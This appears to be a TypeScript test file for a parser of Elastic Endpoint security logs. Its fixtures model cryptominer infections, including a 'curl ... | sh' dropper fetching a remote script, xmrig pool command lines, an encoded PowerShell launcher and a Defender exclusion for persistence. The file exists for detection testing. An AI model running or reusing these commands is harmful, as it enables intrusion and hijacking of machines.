import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import {
  countsOf,
  cutLineCase,
  fileInput,
  fixtureHeads,
  fixturesClaimedBy,
  memoryInput,
  readAll,
  runLineFuzz,
  runSourceContract,
  TEST_CONTEXT,
} from './contract.js';
import { elasticEndpoint } from './elastic-endpoint.js';
import { sniffSource } from './index.js';
import { ndjson } from './ndjson.js';
import { winlogbeat } from './winlogbeat.js';

const DIR = 'test/fixtures/elastic-endpoint';
const WINDOWS = `${DIR}/windows-miner/endpoint.ndjson`;
const LINUX = `${DIR}/linux-miner/endpoint.ndjson`;
const PUBLIC = 'test/fixtures/public/elastic-endpoint';
const good = fileInput(WINDOWS);
const bad = fileInput(`${DIR}/bad.ndjson`);

runSourceContract({
  source: elasticEndpoint,
  good,
  bad,
  // the export copied while the miner's start was written: it ends inside its command line
  cut: cutLineCase(
    good,
    6,
    '"command_line":"\\"C:\\\\Users\\\\jdoe\\\\AppData\\\\Roaming\\\\WinSvc\\\\winupdsvc.exe\\" -o ',
    'stratum+tcp://pool.cutoff-example.net:3',
  ),
});

/** What an event says, without where it was read from: the same story in another shape says the same. */
function meaning(e: CoalEvent): string {
  const { original: _original, coalmine, ...rest } = e;
  return JSON.stringify({ ...rest, ts: coalmine.ts, format: coalmine.format });
}

test('the Windows story: process starts, connections, DNS, file, registry and driver load map to their verbs in time order', async () => {
  const { events } = await readAll(elasticEndpoint, good);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.action, e.event.dataset]),
    [
      [1, 'exec', 'elastic-endpoint.endpoint.events.process'],
      [2, 'connect', 'elastic-endpoint.endpoint.events.network'],
      [3, 'file-write', 'elastic-endpoint.endpoint.events.file'],
      [4, 'exec', 'elastic-endpoint.endpoint.events.process'],
      [5, 'registry-set', 'elastic-endpoint.endpoint.events.registry'],
      [6, 'exec', 'elastic-endpoint.endpoint.events.process'],
      [7, 'exec', 'elastic-endpoint.endpoint.events.process'],
      [9, 'driver-load', 'elastic-endpoint.endpoint.events.library'],
      [11, 'dns-query', 'elastic-endpoint.endpoint.events.network'],
      [12, 'connect', 'elastic-endpoint.endpoint.events.network'],
      [13, 'exec', 'elastic-endpoint.endpoint.events.process'],
      [14, 'file-write', 'elastic-endpoint.endpoint.events.file'],
    ],
  );
  // a DLL load (line 8) and a disconnect (line 15) are read whole and used by nothing; the pool lookup's
  // request (line 10) is its result's (line 11): one lookup, one event
  assert.equal((await countsOf(elasticEndpoint, good)).unused, 3);
});

test('a Windows process start: entity ids for lineage, command line, args, hash, PE name, user as DOMAIN\\name', async () => {
  const { events } = await readAll(elasticEndpoint, good);
  const miner = events.find((e) => e.process?.pid === 6120 && e.event.action === 'exec');
  assert.ok(miner);
  assert.equal(miner['@timestamp'], '2026-11-30T09:00:12.000Z');
  assert.deepEqual(miner.host, {
    name: 'WS-FIN-07',
    id: '61a6e29e2451de1bc1e9df29ce33d173',
    ip: ['10.20.4.17'],
    os: { platform: 'windows' },
  });
  assert.deepEqual(miner.user, { name: 'WS-FIN-07\\jdoe', id: 'S-1-5-21-1004336348-1177238915-682003330-1104' });
  const p = miner.process;
  assert.equal(p?.executable, 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc.exe');
  assert.equal(p?.name, 'winupdsvc.exe');
  assert.match(
    p?.command_line ?? '',
    /^"C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc\.exe" -o stratum\+tcp:\/\/pool\.supportxmr\.com:3333 /,
  );
  assert.equal(p?.args?.length, 14);
  assert.deepEqual(p?.hash, { sha256: '3f6a1f3c0b9f4d6c2f1b7e8a9d0c5b4a3e2f1d0c9b8a7f6e5d4c3b2a1f0e9d8c' });
  assert.deepEqual(p?.pe, { original_file_name: 'xmrig.exe' });
  assert.equal(p?.working_directory, 'C:\\Users\\jdoe\\');
  const cradle = events[0].process;
  assert.equal(p?.parent?.entity_id, cradle?.entity_id);
  assert.equal(p?.parent?.pid, 5880);
  assert.equal(p?.parent?.name, 'powershell.exe');
  assert.match(p?.parent?.command_line ?? '', / -Enc SQBFAFgA/);
  assert.match(p?.entity_id ?? '', /^[A-Za-z0-9+/=]{20,}$/);
});

test('connections, DNS answers, file writes, registry values and drivers carry what the classifiers read', async () => {
  const { events } = await readAll(elasticEndpoint, good);
  const byLine = (line: number) => events.find((e) => e.coalmine.ref.line === line);
  const pool = byLine(12);
  assert.deepEqual(pool?.destination, { ip: '198.51.100.7', port: 3333 });
  assert.deepEqual(pool?.source, { ip: '10.20.4.17', port: 50233 });
  assert.deepEqual(pool?.network, { direction: 'outbound', transport: 'tcp' });
  assert.equal(pool?.process?.pid, 6120);
  assert.deepEqual(byLine(11)?.dns, { question: { name: 'pool.supportxmr.com' }, resolved_ip: ['198.51.100.7'] });
  assert.equal(byLine(10), undefined);
  assert.deepEqual(byLine(3)?.file, {
    path: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc.exe',
    name: 'winupdsvc.exe',
  });
  assert.deepEqual(byLine(5)?.registry, {
    path: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc',
    value: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc',
    data: '0',
  });
  const driver = byLine(9);
  assert.deepEqual(driver?.file, {
    path: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\WinRing0x64.sys',
    name: 'WinRing0x64.sys',
    hash: { sha256: '11bd2c9f8e3397c9a16e0990e4ed2cf0679498fe0fd418a3dfdac60b5c160ee5' },
    signed: true,
    signature: 'Noriyuki MIYAZAKI',
  });
  // the kernel loads every driver: like Sysmon 6, no process
  assert.equal(driver?.process, undefined);
  assert.equal(driver?.original._index, '.ds-logs-endpoint.events.library-default-2026.11.30-000001');
  assert.equal(driver?.original['dll.code_signature.status'], 'errorExpired');
});

test('the Linux story: exec with args joined, entity lineage, numeric ids; a fork is read and unused', async () => {
  const input = fileInput(LINUX);
  const { events, issues } = await readAll(elasticEndpoint, input);
  assert.deepEqual(issues, []);
  assert.equal((await countsOf(elasticEndpoint, input)).unused, 1);
  const miner = events.find((e) => e.process?.pid === 4130);
  assert.equal(miner?.host?.name, 'web-01');
  assert.equal(miner?.host?.os?.platform, 'linux');
  assert.equal(
    miner?.process?.command_line?.startsWith('/tmp/kdevtmpfsi -B -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF'),
    true,
  );
  assert.deepEqual(miner?.user, { name: 'redis', id: '999' });
  const shell = events.find((e) => e.process?.pid === 4103);
  assert.equal(miner?.process?.parent?.entity_id, shell?.process?.entity_id);
  const dropper = events.find((e) => e.process?.pid === 4101);
  assert.equal(
    dropper?.process?.command_line,
    'sh -c (curl -fsSL http://203.0.113.47/d.sh || wget -q -O - http://203.0.113.47/d.sh) | sh',
  );
  assert.equal(dropper?.process?.parent?.name, 'redis-server');
  const cron = events.find((e) => e.event.action === 'file-write' && e.process?.pid === 4115);
  assert.equal(cron?.file?.path, '/var/spool/cron/crontabs/redis');
});

test('every shape an export comes in gives the same events: _search responses (pretty, compact), a hits array, flattened keys', async () => {
  const want = (await readAll(elasticEndpoint, good)).events.map(meaning);
  for (const name of ['search-response.json', 'search-response-compact.json', 'hits-array.json', 'flattened.ndjson']) {
    const input = fileInput(`${DIR}/shapes/${name}`);
    assert.equal(sniffSource(input)?.name, 'elastic-endpoint', name);
    const { events, issues } = await readAll(elasticEndpoint, input);
    assert.deepEqual(issues, [], name);
    // the flattened export has no _index, so its dataset comes from data_stream.dataset: the events say the same
    const got = events.map((e) => JSON.parse(meaning(e)) as Record<string, unknown>);
    assert.deepEqual(
      got.map((e) => JSON.stringify(e)),
      want,
      name,
    );
  }
});

test('a _search response newest first is given oldest first; a response cut short or timed out is reported', async () => {
  const { events } = await readAll(elasticEndpoint, fileInput(`${DIR}/shapes/search-response.json`));
  const times = events.map((e) => e.coalmine.ts);
  assert.deepEqual(
    times,
    [...times].sort((a, b) => a - b),
  );
  const hit = readFileSync(WINDOWS, 'utf8').split('\n')[0];
  const partial = `{"took":5,"timed_out":true,"_shards":{"total":2,"successful":1,"failed":1},"hits":{"hits":[${hit}]}}\n`;
  const r = await readAll(elasticEndpoint, memoryInput('partial.json', partial));
  assert.equal(r.events.length, 1);
  assert.deepEqual(
    r.issues.map((i) => [i.line, i.code]),
    [[1, 'ELASTIC_ENDPOINT_PARTIAL_RESPONSE']],
  );
  // each hit is read alone from hits.hits: it cites the line it starts on, and the hits before a cut are read
  const pretty = readFileSync(`${DIR}/shapes/search-response.json`, 'utf8');
  const lines = pretty.split('\n');
  const starts = events.map((e) => e.coalmine.ref.line ?? 0);
  assert.equal(new Set(starts).size, events.length, 'one line a hit');
  for (const line of starts) assert.match(`${lines[line - 1]}${lines[line]}`, /^\s*\{\s*"_index"/, `line ${line}`);
  const t = await readAll(elasticEndpoint, memoryInput('cut.json', pretty.slice(0, Math.floor(pretty.length / 2))));
  assert.ok(t.events.length > 0 && t.events.length < events.length, `${t.events.length} of ${events.length} hits`);
  assert.deepEqual(
    t.issues.map((i) => i.code),
    ['ELASTIC_ENDPOINT_TRUNCATED'],
  );
  const empty = await countsOf(
    elasticEndpoint,
    memoryInput('empty.json', '{"took":1,"timed_out":false,"hits":{"total":{"value":0},"hits":[]}}\n'),
  );
  assert.deepEqual(empty, { events: 0, issues: 0, unused: 1 });
});

test('every bad record is an issue naming its line and why, and reading goes on', async () => {
  const { events, issues } = await readAll(elasticEndpoint, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code, i.reason]),
    [
      [2, 'ELASTIC_ENDPOINT_BAD_RECORD', 'a hit without a _source object (stored fields alone are not read)'],
      [3, 'ELASTIC_ENDPOINT_BAD_RECORD', '@timestamp "yesterday" is not a time'],
      [4, 'ELASTIC_ENDPOINT_BAD_RECORD', '@timestamp is missing'],
      [5, 'ELASTIC_ENDPOINT_BAD_RECORD', 'process exec without process.pid or process.entity_id'],
      [6, 'ELASTIC_ENDPOINT_BAD_RECORD', 'connection without destination.ip'],
      [7, 'ELASTIC_ENDPOINT_BAD_RECORD', 'DNS lookup without dns.question.name'],
      [8, 'ELASTIC_ENDPOINT_BAD_RECORD', 'file event without file.path'],
      [9, 'ELASTIC_ENDPOINT_BAD_JSON', `Unexpected token 'h', "this is not JSON {" is not valid JSON`],
      [10, 'ELASTIC_ENDPOINT_BAD_RECORD', 'an array where a document belongs'],
      [
        11,
        'ELASTIC_ENDPOINT_BAD_RECORD',
        'hits.hits[0]: a hit without a _source object (stored fields alone are not read)',
      ],
    ],
  );
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [1, 12, 13],
  );
  // hostile values are bounded, a number where a path belongs is no path, control characters are kept for the sinks to show
  const hostile = events[1].process;
  assert.equal(hostile?.executable, undefined);
  assert.ok((hostile?.command_line?.length ?? 0) < 33 * 1024);
  assert.ok(hostile?.command_line?.includes('\u001b[2J\u202e'));
});

runLineFuzz(elasticEndpoint, {
  from: [good, fileInput(LINUX)],
  seed: 4242,
  keys: /"(pid|@timestamp|entity_id|executable|args|action|category|process|destination|dns|file|registry|dll|_source|host)":/g,
  // a value moved under another field's name: an action where a process belongs, a hit's _source that is no object
  renameTo: ['pid', 'action', 'process', '_source', 'event'],
  junk: ['["x"]'],
  keepFirstLine: true,
  rounds: 150,
});

test("no other format's fixture sniffs as elastic-endpoint, and every one of ours does", () => {
  assert.deepEqual(fixturesClaimedBy(elasticEndpoint), []);
  for (const input of [...fixtureHeads(DIR), ...fixtureHeads(PUBLIC)]) {
    if (input.name.endsWith('.csv') || input.name.endsWith('.md')) continue;
    assert.equal(sniffSource(input)?.name, 'elastic-endpoint', input.name);
  }
});

test('ECS neighbours keep their files: coalmine NDJSON and Winlogbeat lines are theirs, bare Elastic documents ours', () => {
  const ndjsonFixture = fileInput('test/fixtures/ndjson/good.ndjson');
  const winlogFixture = fileInput('test/fixtures/winlogbeat/good.ndjson');
  assert.equal(sniffSource(ndjsonFixture)?.name, 'ndjson');
  assert.equal(sniffSource(winlogFixture)?.name, 'winlogbeat');
  const bare = fileInput(LINUX);
  const text = bare.head.toString('utf8');
  // coalmine's own reader would take an ECS line with an action: the endpoint's marks outbid it
  assert.ok(ndjson.sniff(text, bare) > 0);
  assert.ok(elasticEndpoint.sniff(text, bare) > ndjson.sniff(text, bare));
  assert.equal(winlogbeat.sniff(text, bare), 0);
  assert.equal(elasticEndpoint.sniff('{"@timestamp":"2026-12-01T10:00:00Z","event":{"action":"exec"}}\n', bare), 0);
});

test("a Windows event log document in a hit (Elastic Agent's Windows and System integrations) goes through the Winlogbeat mapping", async () => {
  const lines = readFileSync('test/fixtures/winlogbeat/good.ndjson', 'utf8')
    .split('\n')
    .filter((l) => l !== '');
  const hits = lines.map((l, i) =>
    JSON.stringify({
      _index: '.ds-logs-windows.sysmon_operational-default-2026.11.30-000001',
      _id: `w${i}`,
      _source: JSON.parse(l),
    }),
  );
  const input = memoryInput('winlog-hits.ndjson', `${hits.join('\n')}\n`);
  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
  const ours = await readAll(elasticEndpoint, input);
  const theirs = await readAll(winlogbeat, fileInput('test/fixtures/winlogbeat/good.ndjson'));
  assert.ok(ours.events.length > 0);
  assert.deepEqual(
    ours.issues,
    theirs.issues.map((i) => ({ ...i, file: input.name })),
  );
  const strip = (e: CoalEvent) => ({
    ...JSON.parse(meaning(e)),
    format: undefined,
    event: { ...e.event, dataset: e.event.dataset.split('.').slice(1).join('.') },
  });
  // ours are given in time order, as every reader of exports that may be newest first does
  const inOrder = (events: CoalEvent[]) =>
    [...events].sort(
      (a, b) => a.coalmine.ts - b.coalmine.ts || (a.coalmine.ref.line ?? 0) - (b.coalmine.ref.line ?? 0),
    );
  assert.deepEqual(ours.events.map(strip), inOrder(theirs.events).map(strip));
});

test('Elastic Agent: auditd_manager executions and connections by pid, System process and host CPU as metric samples', async () => {
  const agent = { type: 'auditbeat', version: '8.17.0' };
  const host = { name: 'web-07', os: { type: 'linux', family: 'debian' } };
  const docs = [
    {
      '@timestamp': '2026-12-01T10:00:00.000Z',
      agent,
      data_stream: { dataset: 'auditd_manager.auditd' },
      event: { module: 'auditd', category: ['process'], type: ['start'], action: 'executed', outcome: 'success' },
      host,
      process: {
        pid: 900,
        parent: { pid: 1 },
        executable: '/dev/shm/.x/xmrig',
        args: ['/dev/shm/.x/xmrig', '-o', 'pool.minexmr.com:443'],
        title: '/dev/shm/.x/xmrig -o pool.minexmr.com:443',
        working_directory: '/dev/shm/.x',
      },
      user: { id: '0', name: 'root' },
    },
    {
      '@timestamp': '2026-12-01T10:00:01.000Z',
      agent,
      data_stream: { dataset: 'auditd_manager.auditd' },
      event: { module: 'auditd', category: ['network'], type: ['connection', 'start'], action: 'connected-to' },
      host,
      process: { pid: 900, executable: '/dev/shm/.x/xmrig' },
      destination: { ip: '198.51.100.9', port: 443 },
      network: { direction: 'egress' },
    },
    {
      '@timestamp': '2026-12-01T10:01:00.000Z',
      agent: { type: 'metricbeat' },
      data_stream: { dataset: 'system.process', type: 'metrics' },
      event: { module: 'system', dataset: 'system.process' },
      metricset: { name: 'process' },
      host,
      process: {
        pid: 900,
        name: 'xmrig',
        executable: '/dev/shm/.x/xmrig',
        args: ['/dev/shm/.x/xmrig', '-o', 'pool.minexmr.com:443'],
      },
      system: {
        process: {
          cpu: { total: { pct: 3.92, norm: { pct: 0.98 } } },
          memory: { rss: { bytes: 2404352, pct: 0.0012 } },
        },
      },
      user: { name: 'root' },
    },
    {
      '@timestamp': '2026-12-01T10:01:00.000Z',
      data_stream: { dataset: 'system.cpu', type: 'metrics' },
      event: { module: 'system', dataset: 'system.cpu' },
      metricset: { name: 'cpu' },
      host,
      system: { cpu: { cores: 4, total: { pct: 3.96, norm: { pct: 0.99 } } } },
    },
    {
      '@timestamp': '2026-12-01T10:01:00.000Z',
      data_stream: { dataset: 'system.process', type: 'metrics' },
      event: { module: 'system', dataset: 'system.process' },
      host,
      process: { pid: 901, name: 'sshd' },
    },
  ];
  const input = memoryInput('agent.ndjson', `${docs.map((d) => JSON.stringify(d)).join('\n')}\n`);
  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
  const { events, issues } = await readAll(elasticEndpoint, input);
  assert.deepEqual(
    events.map((e) => [e.event.action, e.process?.pid, e.process?.parent?.pid, e.metrics]),
    [
      ['exec', 900, 1, undefined],
      ['connect', 900, undefined, undefined],
      ['metric', 900, undefined, { cpu_pct: 392, rss_bytes: 2404352, mem_pct: 0.12 }],
      ['metric', undefined, undefined, { cpu_pct: 99, cores: 4 }],
    ],
  );
  assert.equal(events[0].process?.command_line, '/dev/shm/.x/xmrig -o pool.minexmr.com:443');
  assert.deepEqual(events[1].network, { direction: 'outbound' });
  assert.deepEqual(events[2].event, {
    kind: 'metric',
    category: ['process'],
    action: 'metric',
    dataset: 'elastic-endpoint.system.process',
  });
  assert.deepEqual(
    issues.map((i) => [i.line, i.reason]),
    [[5, 'system.process sample without system.process.cpu.total.pct']],
  );
});

test('ECS written flat or with one-element arrays reads as nested ECS does', async () => {
  const doc = {
    '@timestamp': '2026-12-01T10:00:00Z',
    'agent.type': 'endpoint',
    'event.category': 'process',
    'event.action': ['exec'],
    'event.type': ['start'],
    'host.name': 'web-09',
    'host.os.type': 'linux',
    process: {
      'parent.pid': 1,
      pid: 77,
      'entity.id.not': 'x',
      entity_id: 'e77',
      executable: '/usr/bin/id',
      args: ['id', '-u'],
    },
  };
  const input = memoryInput('flat.ndjson', `${JSON.stringify(doc)}\n`);
  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
  const { events, issues } = await readAll(elasticEndpoint, input);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    [
      events[0].event.action,
      events[0].process?.pid,
      events[0].process?.entity_id,
      events[0].process?.parent?.pid,
      events[0].process?.command_line,
      events[0].host,
    ],
    ['exec', 77, 'e77', 1, 'id -u', { name: 'web-09', os: { platform: 'linux' } }],
  );
});

test('the public sample (ECS RFC 0030, a real Elastic Endpoint exec hit) reads without issues', async () => {
  const input = fileInput(`${PUBLIC}/ecs-rfc0030-linux-exec-hit.json`);
  const { events, issues } = await readAll(elasticEndpoint, input);
  assert.deepEqual(issues, []);
  assert.equal(events.length, 1);
  const e = events[0];
  assert.equal(e['@timestamp'], '2022-02-16T23:49:50.502Z');
  assert.equal(e.event.action, 'exec');
  assert.deepEqual(e.host?.os, { platform: 'linux' });
  assert.equal(e.host?.name, 'ubuntu-impish');
  assert.deepEqual(e.host?.ip, ['127.0.0.1', '::1', '10.0.2.15', 'fe80::b6:64ff:fef1:a5f0']);
  assert.deepEqual(e.user, { name: 'vagrant', id: '1000' });
  assert.equal(e.process?.command_line, 'ls --color=auto -la');
  assert.equal(
    e.process?.parent?.entity_id,
    'MDEwMTAxMDEtMDEwMS0wMTAxLTAxMDEtMDEwMTAxMDEwMTAxLTEyNjI3LTEzMjg5NTI4OTg2Ljc5NTkxODAwMA==',
  );
  assert.equal(e.process?.start, '2022-02-16T23:27:52.810Z');
  assert.equal(e.original._id, 'BuvxBH8BU45FNSRmRWIK');
});

test('hostile documents stay bounded: thousands of arguments, a __proto__ key, deep nesting, a thousand keys', async () => {
  const doc = JSON.parse(readFileSync(WINDOWS, 'utf8').split('\n')[0])._source;
  doc.process.args = Array.from({ length: 5000 }, (_, i) => `--arg${i}=${'x'.repeat(50)}`);
  delete doc.process.command_line;
  let deep: Record<string, unknown> = { leaf: 'bottom' };
  for (let i = 0; i < 500; i++) deep = { d: deep };
  doc.deep = deep;
  for (let i = 0; i < 1000; i++) doc[`k${i}`] = i;
  const text = JSON.stringify(doc).replace('{', '{"__proto__":{"polluted":["yes"]},');
  const { events, issues } = await readAll(elasticEndpoint, memoryInput('hostile.ndjson', `${text}\n`), {
    ...TEST_CONTEXT,
    maxLineBytes: 1024 * 1024,
  });
  assert.deepEqual(issues, []);
  const e = events[0];
  assert.ok((e.process?.args?.length ?? 0) < 1000, `${e.process?.args?.length} args kept`);
  assert.ok((e.process?.args ?? []).join('').length <= 33 * 1024);
  assert.ok((e.process?.command_line?.length ?? 0) <= 40 * 1024);
  assert.ok(Object.keys(e.original).length <= 64);
  assert.equal(Object.getPrototypeOf(e.original), Object.prototype);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('the other actions: already_running, end, accepted and UDP flows, renames; alerts and deletions are unused', async () => {
  const base = {
    '@timestamp': '2026-12-01T10:00:00Z',
    agent: { type: 'endpoint' },
    host: { name: 'ws-3', os: { type: 'windows' } },
    process: { pid: 4400, entity_id: 'ZW50LTQ0MDA=', executable: 'C:\\Tools\\agent.exe' },
  };
  const docs = [
    { event: { category: ['process'], type: ['info'], action: 'already_running' } },
    { event: { category: ['process'], type: ['end'], action: 'end' } },
    {
      event: { category: ['network'], type: ['start'], action: 'connection_accepted' },
      source: { ip: '198.51.100.30', port: 50000 },
      destination: { ip: '10.1.1.3', port: 3389 },
      network: { transport: 'tcp' },
    },
    {
      event: { category: ['network'], type: ['start'], action: 'udp_flow_outbound' },
      destination: { ip: '192.0.2.53', port: 53 },
      network: { direction: 'egress', transport: 'udp' },
    },
    {
      event: { category: ['file'], type: ['change'], action: 'rename' },
      file: { path: 'C:\\Tools\\new.exe', Ext: { original: { path: 'C:\\Tools\\old.tmp' } } },
    },
    { event: { category: ['file'], type: ['deletion'], action: 'deletion' }, file: { path: 'C:\\Tools\\old.exe' } },
    {
      event: {
        kind: 'alert',
        category: ['malware', 'intrusion_detection', 'process'],
        type: ['start'],
        action: 'start',
      },
    },
    { event: { kind: 'signal', category: ['process'], type: ['start'], action: 'start' } },
  ].map((d) => JSON.stringify({ ...base, ...d }));
  const input = memoryInput('actions.ndjson', `${docs.join('\n')}\n`);
  const { events, issues } = await readAll(elasticEndpoint, input);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.action, e.network?.direction, e.network?.transport, e.file?.path]),
    [
      [1, 'process-seen', undefined, undefined, undefined],
      [2, 'exit', undefined, undefined, undefined],
      [3, 'connect', 'inbound', 'tcp', undefined],
      [4, 'connect', 'outbound', 'udp', undefined],
      [5, 'file-write', undefined, undefined, 'C:\\Tools\\new.exe'],
    ],
  );
  assert.equal((await countsOf(elasticEndpoint, input)).unused, 3);
});

/**
 * Our own Elastic Defend DNS documents (the endpoint package's lookup_requested / lookup_result fields):
 * `lookup(action, at, name, …)` on WS-DNS-01 by one process unless `pid` says another.
 */
function lookup(
  action: 'lookup_requested' | 'lookup_result',
  at: string,
  name: string,
  { ips = [] as string[], pid = 6120 } = {},
): string {
  return JSON.stringify({
    '@timestamp': at,
    agent: { type: 'endpoint', version: '8.17.4' },
    data_stream: { dataset: 'endpoint.events.network', namespace: 'default', type: 'logs' },
    event: {
      action,
      category: ['network'],
      type: ['protocol', 'info'],
      kind: 'event',
      module: 'endpoint',
      dataset: 'endpoint.events.network',
      outcome: 'success',
    },
    host: { name: 'WS-DNS-01', id: 'b7e1c0ffee', os: { type: 'windows', family: 'windows' } },
    process: { pid, entity_id: `ZW50LSR7${pid}`, name: 'winupdsvc.exe' },
    dns: {
      question: { name },
      ...(action === 'lookup_result' ? { resolved_ip: ips, Ext: { status: 0 } } : {}),
    },
    network: { protocol: 'dns' },
  });
}

async function lookups(lines: string[], context = TEST_CONTEXT) {
  const input = memoryInput('dns.ndjson', `${lines.join('\n')}\n`);
  const { events, issues } = await readAll(elasticEndpoint, input, context);
  const { unused } = await countsOf(elasticEndpoint, input, context);
  const rows = events.map((e) => [e.coalmine.ref.line, e['@timestamp'], e.dns?.question?.name, e.dns?.resolved_ip]);
  return { events, issues, unused, rows };
}

test('a DNS lookup_requested and its lookup_result are one dns-query: the result, with its resolved IPs', async () => {
  const request = lookup('lookup_requested', '2026-11-30T09:00:14.100Z', 'pool.supportxmr.com');
  const result = lookup('lookup_result', '2026-11-30T09:00:14.180Z', 'pool.supportxmr.com', {
    ips: ['198.51.100.7', '198.51.100.8'],
  });
  const inOrder = await lookups([request, result]);
  assert.deepEqual(inOrder.issues, []);
  assert.deepEqual(inOrder.rows, [
    [2, '2026-11-30T09:00:14.180Z', 'pool.supportxmr.com', ['198.51.100.7', '198.51.100.8']],
  ]);
  assert.equal(inOrder.events[0].event.action, 'dns-query');
  assert.equal(inOrder.events[0].process?.pid, 6120);
  // the request is read whole and said by its result: counted unused, not lost
  assert.equal(inOrder.unused, 1);
  // an export newest first (Kibana's sort): the result comes first, the request after it is the same lookup
  const newestFirst = await lookups([result, request]);
  assert.deepEqual(newestFirst.rows, [
    [1, '2026-11-30T09:00:14.180Z', 'pool.supportxmr.com', ['198.51.100.7', '198.51.100.8']],
  ]);
  assert.equal(newestFirst.unused, 1);
  // a result alone (Linux and macOS write no request) is one, as before
  const alone = await lookups([result]);
  assert.deepEqual([alone.rows.length, alone.unused], [1, 0]);
});

test('a lookup_requested whose result never comes is one dns-query, dated as it is, in time order', async () => {
  const { events, issues, unused, rows } = await lookups([
    lookup('lookup_requested', '2026-11-30T09:00:10.000Z', 'gulf.moneroocean.stream'),
    lookup('lookup_requested', '2026-11-30T09:00:20.000Z', 'pool.supportxmr.com'),
    lookup('lookup_result', '2026-11-30T09:00:20.050Z', 'pool.supportxmr.com', { ips: ['198.51.100.7'] }),
  ]);
  assert.deepEqual(issues, []);
  assert.deepEqual(rows, [
    [1, '2026-11-30T09:00:10.000Z', 'gulf.moneroocean.stream', undefined],
    [3, '2026-11-30T09:00:20.050Z', 'pool.supportxmr.com', ['198.51.100.7']],
  ]);
  assert.equal(events[0].event.action, 'dns-query');
  assert.equal(unused, 1);
  // one alone at the end of the input is given too
  const last = await lookups([lookup('lookup_requested', '2026-11-30T09:00:10.000Z', 'pool.supportxmr.com')]);
  assert.deepEqual([last.rows, last.unused], [[[1, '2026-11-30T09:00:10.000Z', 'pool.supportxmr.com', undefined]], 0]);
});

test('lookups of different names by one process are two; the same name by another process or minutes later is another', async () => {
  const twoNames = await lookups([
    lookup('lookup_requested', '2026-11-30T09:00:14.000Z', 'pool.supportxmr.com'),
    lookup('lookup_requested', '2026-11-30T09:00:14.010Z', 'xmr.2miners.com'),
    lookup('lookup_result', '2026-11-30T09:00:14.060Z', 'xmr.2miners.com', { ips: ['198.51.100.9'] }),
    lookup('lookup_result', '2026-11-30T09:00:14.090Z', 'pool.supportxmr.com', { ips: ['198.51.100.7'] }),
  ]);
  assert.deepEqual(twoNames.rows, [
    [3, '2026-11-30T09:00:14.060Z', 'xmr.2miners.com', ['198.51.100.9']],
    [4, '2026-11-30T09:00:14.090Z', 'pool.supportxmr.com', ['198.51.100.7']],
  ]);
  assert.equal(twoNames.unused, 2);
  const others = await lookups([
    lookup('lookup_requested', '2026-11-30T09:00:14.000Z', 'pool.supportxmr.com'),
    lookup('lookup_result', '2026-11-30T09:00:14.050Z', 'pool.supportxmr.com', { ips: ['198.51.100.7'], pid: 7000 }),
    lookup('lookup_requested', '2026-11-30T09:05:00.000Z', 'pool.supportxmr.com'),
    lookup('lookup_result', '2026-11-30T09:05:00.040Z', 'pool.supportxmr.com', { ips: ['198.51.100.7'] }),
  ]);
  // the first request is 6120's, the result 7000's: two lookups; five minutes on, 6120 asks again and is answered
  assert.deepEqual(
    others.events.map((e) => [e.coalmine.ref.line, e.process?.pid]),
    [
      [1, 6120],
      [2, 7000],
      [4, 6120],
    ],
  );
  assert.equal(others.unused, 1);
});

test('lookups waiting for their results are bounded: past the bound the first read is given alone, and counted', async () => {
  // the bound is SourceContext.maxPendingRecords (at least 16): 20 requests, then their 20 results
  const context = { ...TEST_CONTEXT, maxPendingRecords: 16 };
  const names = Array.from({ length: 20 }, (_, i) => `h${i}.pool.example`);
  const at = (ms: number) => new Date(Date.parse('2026-11-30T09:00:00.000Z') + ms).toISOString();
  const { events, issues, unused } = await lookups(
    [
      ...names.map((n, i) => lookup('lookup_requested', at(i), n)),
      ...names.map((n, i) => lookup('lookup_result', at(100 + i), n, { ips: ['198.51.100.7'] })),
    ],
    context,
  );
  // the first four requests were given up: each is an event, and so is its result; the other 16 are paired
  assert.equal(events.length, 24);
  assert.equal(unused, 16);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [[1, 'ELASTIC_ENDPOINT_LOOKUPS_UNPAIRED']],
  );
  assert.match(issues[0].reason, /^4 DNS lookup requests/);
  const times = events.map((e) => e.coalmine.ts);
  assert.deepEqual(
    times,
    [...times].sort((a, b) => a - b),
  );
});
